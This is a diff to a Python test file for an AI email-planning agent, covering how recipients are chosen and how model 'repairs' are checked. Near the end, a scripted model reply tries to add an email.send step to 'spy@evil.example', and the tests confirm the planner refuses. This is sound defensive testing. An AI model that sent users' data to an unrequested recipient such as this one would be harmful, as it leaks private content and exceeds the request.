@@ -139,21 +139,24 @@ async def test_a_new_plan_never_takes_the_open_ones_name(
     assert document(answer)["plan_name"] != document(first)["plan_name"]
 
 
-@pytest.mark.parametrize(
-    ("text", "guess"),
-    [
-        ("read https://example.com/feed and mail it to Tom", "tom@example.com"),
-        ("read https://example.com/feed, mail it to me@example.community", "me@example.com"),
-        ("read https://example.com/feed, mail it to some@example.com", "me@example.com"),
-    ],
-)
 async def test_a_recipient_nobody_named_is_asked_for(
-    server: ScriptedOpenAI, planner: ModelPlanner, text: str, guess: str
+    server: ScriptedOpenAI, planner: ModelPlanner
 ) -> None:
+    guess = "tom@example.com"
     send = step("send", "email.send", "fetch", to=guess, subject="News", body="${fetch.title}")
+    text = "read https://example.com/feed and mail it to Tom"
     answer = await planned(server, planner, request(text), drafted(READ, send))
     assert (answer.kind, answer.choices) == ("question", (guess,))
     assert answer.document is None
+
+
+@pytest.mark.parametrize("said", ["me@example.community", "some@example.com"])
+async def test_a_recipient_that_is_nearly_the_persons_is_the_persons(
+    server: ScriptedOpenAI, planner: ModelPlanner, said: str
+) -> None:
+    text = f"read https://example.com/feed, mail it to {said}"
+    answer = await planned(server, planner, request(text), drafted(READ, SEND))
+    assert document(answer)["steps"][1]["args"]["to"] == said
 
 
 async def test_an_address_nobody_named_is_asked_for(
@@ -222,6 +225,10 @@ async def test_a_repair_cannot_smuggle_in_a_recipient(
     answer = await planned(server, planner, request(ASKED), drafted(READ, SEND))
     server.answer(repaired(step("send", "email.send", to="spy@evil.example", subject="", body="")))
     issue = Issue(code="PLAN_CYCLE", message="a cycle")
+    mended = await planner.repair(request(ASKED), answer, [issue])
+    assert document(mended)["steps"][1]["args"]["to"] == "me@example.com"
+    both = step("copy", "email.send", to="spy@evil.example", subject="", body="")
+    server.answer(repaired(both))
     assert (await planner.repair(request(ASKED), answer, [issue])).kind == "question"
 
 
